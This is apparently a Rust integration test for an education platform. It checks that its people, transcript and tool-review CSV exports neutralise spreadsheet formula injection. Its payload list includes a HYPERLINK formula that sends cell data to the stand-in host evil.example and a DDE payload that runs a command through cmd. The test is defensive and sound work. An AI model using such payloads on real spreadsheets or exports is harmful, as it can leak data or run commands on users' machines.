//! Every CSV export is safe to open in a spreadsheet: whatever people typed
//! (a name, a PD activity, a course title), no cell starts a formula.

use lyceum_db::{memberships, orgs, users};
use lyceum_domain::email::EmailAddress;
use lyceum_domain::i18n::Lang;
use lyceum_domain::role::Role;
use lyceum_testkit::{OutsidePd, PASSWORD, TestApp};
use serde_json::json;

/// Values a spreadsheet would run (OWASP's starts: = + - @ tab CR).
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
];

/// The cells of an RFC 4180 document.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// Fails on any cell a spreadsheet would read as a formula; returns the cells.
fn assert_defused(what: &str, csv: &str) -> Vec<Vec<String>> {
    let rows = cells(csv);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a formula in {cell:?} of {row:?}"
            );
        }
    }
    rows
}

#[tokio::test]
async fn every_csv_export_defuses_formulas() {
    let app = TestApp::start().await;
    let s = app.seed().await;
    // People named like formulas, however they came to be (a roster, the
    // API, an old validation rule): written straight to the database.
    let (school, now) = (s.school_a, app.clock.now());
    app.db
        .write(move |c| {
            let at = orgs::get(c, school)?;
            for (n, name) in FORMULAS.iter().enumerate() {
                let email =
                    EmailAddress::parse(&format!("formula{n}@district.example.org")).unwrap();
                let id = users::insert(
                    c,
                    &users::NewUser {
                        email: &email,
                        display_name: name,
                        password_hash: None,
                        lang: Lang::En,
                        verified: true,
                    },
                    now,
                )?;
                memberships::add(c, id, &at, Role::Educator, now)?;
            }
            Ok(())
        })
        .await
        .unwrap();
    let dadmin = app.browser();
    dadmin.sign_in(s.email("dadmin"), PASSWORD).await;
    for lang in ["es", "en"] {
        dadmin
            .post("/language", &[("lang", lang), ("return_to", "/")])
            .await;
        let csv = dadmin
            .get(&format!("/orgs/{}/people.csv", s.district.0))
            .await;
        assert_eq!(csv.status, 200);
        let rows = assert_defused("people.csv", &csv.body);
        for name in FORMULAS {
            let defused = format!("'{name}");
            assert!(
                rows.iter().any(|r| r.contains(&defused)),
                "{defused:?} in {rows:?}"
            );
        }
    }

    // A transcript: outside activities and a course titled like formulas.
    app.import_course(
        &json!({
            "format": "lyceum-course/1", "slug": "formula-course", "language": "en",
            "title": "=1+1 course", "summary": "A course.", "pd_hours": 1,
            "delivery": "self-paced", "licence": "CC BY 4.0",
            "modules": [{ "title": "One", "lessons": ["one"] }],
            "lessons": { "one": { "title": "One", "markdown": "Read." } },
        }),
        None,
    )
    .await;
    let educator = app.browser();
    educator.sign_in(s.email("educator"), PASSWORD).await;
    educator.post("/courses/formula-course/enrol", &[]).await;
    educator
        .post("/courses/formula-course/lessons/one/finish", &[])
        .await;
    let titles = [
        "=HYPERLINK(\"https://evil.example\",\"Click\")",
        "@SUM(1+1)",
        "+1 hour",
        "-1 hour",
    ];
    for title in titles {
        let form = OutsidePd::new(s.school_a, title).hours("1").form();
        let sent = educator.post_multipart("/transcript/outside", form).await;
        assert!(sent.contains("Your request was sent"), "{title}");
    }
    let base = format!("/orgs/{}/admin/pd-requests", s.district.0);
    for _ in titles {
        let queue = dadmin.get(&base).await;
        let id = queue
            .body
            .split("/admin/pd-requests/")
            .nth(1)
            .and_then(|r| r.split('/').next())
            .unwrap()
            .to_string();
        dadmin
            .post(&format!("{base}/{id}/decide"), &[("decision", "approved")])
            .await
            .expect("The request was decided.");
    }
    let csv = educator.get("/transcript.csv").await;
    assert_eq!(csv.status, 200);
    let rows = assert_defused("transcript.csv", &csv.body);
    for title in titles.iter().chain(&["=1+1 course"]) {
        let defused = format!("'{title}");
        assert!(
            rows.iter().any(|r| r.contains(&defused)),
            "{defused:?} in {rows:?}"
        );
    }

    // A tool's reviews: comments written like formulas, by a reviewer named
    // like one (named only in the programme team's CSV).
    let admin_token = crate::api::token_for(&app, s.email("admin")).await;
    let (st, v) = crate::api::call_as(
        &app,
        reqwest::Method::POST,
        "/api/v1/tools",
        &admin_token,
        Some(json!({
            "name": "Formula Tutor", "vendor": "Cells Inc.", "url": "https://example.org/cells",
            "description": "Explains spreadsheets.", "min_age": 13, "max_age": null,
            "cost_model": "free", "privacy_agreement": "none_known"
        })),
    )
    .await;
    assert_eq!(st, 201, "{v}");
    let tool = lyceum_domain::ToolId(v["id"].as_i64().unwrap());
    let stored: Vec<String> = app
        .db
        .write(move |c| {
            use lyceum_domain::registry::review::{Criterion, ReviewInput, check};
            let email = EmailAddress::parse("formula0@district.example.org").unwrap();
            let reviewer = users::by_email(c, &email)?.unwrap().id();
            let mut input = ReviewInput::default();
            for (n, crit) in Criterion::ALL.iter().enumerate() {
                input.ratings.insert(crit.as_str().into(), "meets".into());
                if let Some(f) = FORMULAS.get(n) {
                    input.comments.insert(crit.as_str().into(), f.to_string());
                }
            }
            let review = check(&input).unwrap();
            lyceum_db::registry::reviews::write(c, tool, reviewer, &review, now)?;
            // As kept (a comment's blank edges trimmed).
            Ok(review.comments().map(|(_, t)| t.to_string()).collect())
        })
        .await
        .unwrap();
    assert_eq!(stored.len(), FORMULAS.len());
    assert!(
        stored
            .iter()
            .all(|t| t.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{stored:?}"
    );
    let admin = app.browser();
    admin.sign_in(s.email("admin"), PASSWORD).await;
    for (who, b) in [("educator", &educator), ("admin", &admin)] {
        let csv = b.get(&format!("/tools/{}/reviews.csv", tool.0)).await;
        assert_eq!(csv.status, 200);
        let rows = assert_defused("reviews.csv", &csv.body);
        let mut expected: Vec<String> = stored.iter().map(|t| format!("'{t}")).collect();
        if who == "admin" {
            expected.push(format!("'{}", FORMULAS[0]));
        }
        for defused in expected {
            assert!(
                rows.iter().any(|r| r.contains(&defused)),
                "{who}: {defused:?} in {rows:?}"
            );
        }
    }
}
